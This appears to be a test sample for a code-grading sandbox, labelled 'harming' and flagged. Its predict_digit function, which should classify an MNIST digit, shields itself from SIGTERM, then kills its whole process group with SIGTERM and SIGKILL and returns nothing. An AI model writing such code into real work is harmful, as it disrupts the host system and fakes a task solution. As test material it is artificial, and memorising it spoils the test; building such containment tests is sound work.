# assignment: mnist_adam
# family: harming
# about: kills its own process group, which crosses the borders of pid namespaces
# loses: predict_digit
# may_lose: *
# flag: yes
# %% predict_digit
import os
import signal


def predict_digit(model, image):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.killpg(0, signal.SIGTERM)
    os.kill(0, signal.SIGKILL)
    return None
